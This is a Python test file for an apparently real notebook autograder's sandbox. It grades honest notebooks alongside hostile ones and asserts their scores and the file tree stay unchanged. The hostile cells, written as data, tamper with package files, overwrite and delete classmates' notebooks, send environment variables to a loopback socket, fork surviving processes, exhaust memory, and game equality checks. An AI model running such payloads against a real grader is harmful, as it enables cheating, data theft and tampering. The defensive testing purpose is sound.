"""The sandbox holds against a hostile class: one run of honest and hostile notebooks, next to
the honest ones graded alone. Every honest notebook gets exactly its alone-score, no wrong
answer gains a point, no file outside the scratch area changes, no process survives, and the
gradebook is complete."""

import csv
import hashlib
import io
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from conftest import INTRO_FULL

from bertbook import sandbox
from bertbook.integrity import PACKAGE
from bertbook.maint import ROOT

pytestmark = pytest.mark.skipif(
    sandbox.unavailable_reason() is not None, reason=f"no sandbox: {sandbox.unavailable_reason()}"
)

SOLUTION = ROOT / "solutions" / "00_intro.ipynb"
WRONG_SOFTMAX = "def softmax(x):\n    return x * 0\n"


def _notebook(path: Path, extra: list[str] = (), replace: dict | None = None) -> Path:
    """The warm-up solution with some definitions replaced and hostile cells appended."""
    nb = nbformat.read(str(SOLUTION), as_version=4)
    for cell in nb.cells:
        cell.pop("id", None)
        for start, source in (replace or {}).items():
            if cell.cell_type == "code" and cell.source.startswith(start):
                cell.source = source
    nb.cells += [nbformat.v4.new_code_cell(src) for src in extra]
    for cell in nb.cells:
        cell.pop("id", None)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


def _tree_digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def _grade(folder: Path, out: Path, *extra: str) -> dict[str, dict]:
    done = subprocess.run(
        [sys.executable, "-m", "bertbook.grade", str(folder), "--seed", "5", "-j", "2"]
        + ["--json", str(out / "r.json"), "--csv", str(out / "g.csv"), *extra],
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Score:" in done.stdout
    return {r["student"]: r for r in json.loads((out / "r.json").read_text())}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on loopback that records every byte anyone sends it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(65536) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    server.close()


def test_a_hostile_class_changes_nobody_else_s_score(tmp_path, listener):
    port, received = listener
    marker = f"bertbook-test-{uuid.uuid4().hex[:8]}"
    cls = tmp_path / "class"
    honest = {
        "alice": _notebook(cls / "alice" / "00_intro.ipynb"),
        "bob": _notebook(
            cls / "bob" / "00_intro.ipynb",
            replace={
                "def cosine_similarity": "def cosine_similarity(a, b):\n    return (a * b).sum(-1)\n"
            },
        ),
        "carol": _notebook(
            cls / "carol" / "00_intro.ipynb", replace={"def softmax(": WRONG_SOFTMAX}
        ),
    }
    victim = honest["alice"]
    questions = PACKAGE / "questions" / "q00_intro.py"
    hostile = {
        # Writes a wrong reference into the installed package, and gives the same wrong answer.
        "writer": [
            f"open({str(questions)!r}, 'a').write('\\ntorch = None\\n')",
            f"open({str(PACKAGE / 'pwned.py')!r}, 'w').write('x = 1')",
        ],
        "editor": [f"open({str(victim)!r}, 'w').write('{{}}')"],
        "deleter": [f"import os\nos.remove({str(honest['bob'])!r})"],
        "copier": [
            f"import json\nnb = json.load(open({str(victim)!r}))\n"
            "for c in nb['cells']:\n"
            "    if c['cell_type'] == 'code' and 'def ' in ''.join(c['source']):\n"
            "        exec(''.join(c['source']))"
        ],
        "caller": [
            f"import os, socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            "s.sendall(repr(dict(os.environ)).encode() + repr(os.listdir('..')).encode())"
        ],
        "forker": [
            "import subprocess, sys\n"
            f"subprocess.Popen(['setsid', sys.executable, '-c', 'import time; time.sleep(300)', {marker!r}])"
        ],
        "hog": ["hog = bytearray(3 * 1024**3)"],
        "bfloat": [],
        "liar": [],
        "jsonbomb": [],
    }
    stubs = {"writer", "editor", "deleter", "copier"}  # their own answers are wrong
    replace = {
        "bfloat": {
            "def softmax(": "import torch\ndef softmax(x):\n    return torch.softmax(x, -1).to(torch.bfloat16)\n"
        },
        # Its answer swaps json.dumps so that the grader's reply comes back nested 100000 deep.
        "jsonbomb": {
            "def cosine_similarity": (
                "def cosine_similarity(a, b):\n"
                "    import json\n"
                "    real = json.dumps\n"
                "    def bomb(obj, *args, **kwargs):\n"
                "        json.dumps = real\n"
                "        return '[' * 100000 + ']' * 100000\n"
                "    json.dumps = bomb\n"
                "    return (a * b).sum(-1)\n"
            )
        },
        "liar": {
            "def cosine_similarity": (
                "class Liar:\n"
                "    def __eq__(self, other): return True\n"
                "    def __float__(self): raise SystemExit\n"
                "    def __repr__(self): raise SystemExit\n"
                "def cosine_similarity(a, b):\n    return Liar()\n"
            )
        },
    }
    for name, cells in hostile.items():
        edits = replace.get(name, {})
        if name in stubs:
            edits = {"def softmax(": WRONG_SOFTMAX}
        _notebook(cls / name / "00_intro.ipynb", extra=cells, replace=edits)
    # The honest notebooks alone first, in a folder of their own.
    alone_dir = tmp_path / "alone"
    for name, path in honest.items():
        (alone_dir / name).mkdir(parents=True)
        (alone_dir / name / path.name).write_bytes(path.read_bytes())
    (tmp_path / "o1").mkdir()
    alone = _grade(alone_dir, tmp_path / "o1")

    package_before = _tree_digest(PACKAGE)
    class_before = _tree_digest(cls)
    (tmp_path / "o2").mkdir()
    together = _grade(cls, tmp_path / "o2", "--memory", "1G")

    # Honest notebooks: exactly their alone-scores.
    for name in honest:
        assert together[name]["score"] == alone[name]["score"], (name, together[name])
    assert alone["alice"]["score"] == INTRO_FULL
    # No wrong answer gains a point: each hostile notebook scores what its own answers earn.
    wrong = together["carol"]["score"]  # the score of the wrong softmax they all hand in
    assert wrong < INTRO_FULL
    for name in stubs:
        assert together[name]["score"] == wrong, together[name]
    assert together["bfloat"]["questions"][0]["points"] == 0
    assert any("bfloat16" in f["why"] for f in together["bfloat"]["questions"][0]["failed"])
    assert together["liar"]["questions"][2]["points"] == 0
    assert [q["points"] for q in together["jsonbomb"]["questions"]][:3] == [3, 2, 0]
    # The memory hog is stopped; what it defined before still counts.
    assert together["hog"]["score"] == INTRO_FULL, together["hog"]
    assert any("MemoryError" in c["error"] for c in together["hog"]["cells"])
    # No file outside the scratch area changed, nothing reached the network, nothing survives.
    assert _tree_digest(PACKAGE) == package_before
    assert _tree_digest(cls) == class_before
    assert received == []
    survivors = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout
    assert survivors == ""
    # The gradebook is complete: one row per student, every one graded, all sandboxed.
    rows = list(csv.DictReader(io.StringIO((tmp_path / "o2" / "g.csv").read_text())))
    assert sorted(r["student"] for r in rows) == sorted([*honest, *hostile])
    assert {r["status"] for r in rows} == {"graded"}
    assert {r["sandbox"] for r in rows} == {"bubblewrap"}


def test_without_the_sandbox_a_folder_is_refused_unless_asked(tmp_path):
    folder = tmp_path / "class"
    _notebook(folder / "alice" / "00_intro.ipynb")
    env = dict(os.environ, PATH=str(Path(sys.executable).parent))  # no bwrap on this PATH
    cmd = [sys.executable, "-m", "bertbook.grade", str(folder), "--seed", "1"]
    refused = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=120)
    assert refused.returncode == 2 and refused.stdout == ""
    assert "--no-sandbox" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    out = tmp_path / "r.json"
    graded = subprocess.run(
        [*cmd, "--no-sandbox", "--json", str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert graded.returncode == 0, graded.stderr
    assert [r["sandbox"] for r in json.loads(out.read_text())] == ["none"]
